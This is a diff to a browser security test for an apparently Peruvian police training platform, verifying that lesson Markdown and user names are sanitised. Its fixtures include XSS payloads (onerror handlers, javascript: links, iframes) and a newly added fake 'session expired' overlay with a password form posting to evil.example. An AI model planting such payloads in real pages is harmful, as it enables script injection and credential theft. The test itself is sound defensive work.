@@ -13,6 +13,9 @@ const HOSTILE_MARKDOWN = `
 <img src="x" onerror="window.__xss = 'img'">
 [un enlace](javascript:window.__xss='link')
 <iframe src="javascript:window.__xss='iframe'"></iframe>
+<style>main { display: none }</style>
+<div style="position:fixed;inset:0;z-index:9999;background:white">Su sesión expiró. Vuelva a ingresar.</div>
+<form action="https://evil.example/"><input name="password" type="password"><button>Ingresar</button></form>
 `;
 const HOSTILE_NAME = `<img src=x onerror="window.__xss='name'">Ana`;
 
@@ -58,11 +61,11 @@ describe('browser: stored Markdown and names never execute script', () => {
 
     // A learner whose chosen name is markup joins (pinned to the new version) and reaches the lesson.
     const email = `xss.${randomUUID().slice(0, 6)}@pnp.gob.pe`;
-    const reg = await api('/api/auth/register', {
+    await api('/api/auth/register', {
       method: 'POST',
       body: { inviteCode: 'DEMO-2026', email, displayName: HOSTILE_NAME, password: 'frase larga de prueba 2026', positionType: 'police', region: 'lima' },
     });
-    const token = reg.accessToken;
+    const { accessToken: token } = await api('/api/auth/login', { method: 'POST', body: { email, password: 'frase larga de prueba 2026' } });
     const [enrolment] = await api('/api/enrolments/mine', { token });
     const post = (path: string, body: object = {}) => api(`/api/enrolments/${enrolment.id}${path}`, { method: 'POST', token, body: { idempotencyKey: randomUUID(), ...body } });
     await post('/consent', { evaluationUse: true });
@@ -88,8 +91,11 @@ describe('browser: stored Markdown and names never execute script', () => {
       handlers: [...document.querySelectorAll('main *')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
       javascriptLinks: [...document.querySelectorAll('main a')].filter((a) => (a.getAttribute('href') ?? '').toLowerCase().startsWith('javascript:')).length,
       iframes: document.querySelectorAll('main iframe').length,
+      // No lesson can restyle the page, overlay it or collect passwords (sanitiser allow-list; CSP as second lock).
+      styles: document.querySelectorAll('main style, main .prose [style], main form, main input').length,
+      fixed: [...document.querySelectorAll('main .prose *')].filter((el) => getComputedStyle(el).position === 'fixed').length,
     }));
-    expect(state).toEqual({ xss: undefined, scripts: 0, handlers: 0, javascriptLinks: 0, iframes: 0 });
+    expect(state).toEqual({ xss: undefined, scripts: 0, handlers: 0, javascriptLinks: 0, iframes: 0, styles: 0, fixed: 0 });
     expect(dialogs).toEqual([]);
     expect(course().modules.length).toBeGreaterThan(0);
     await context.close();
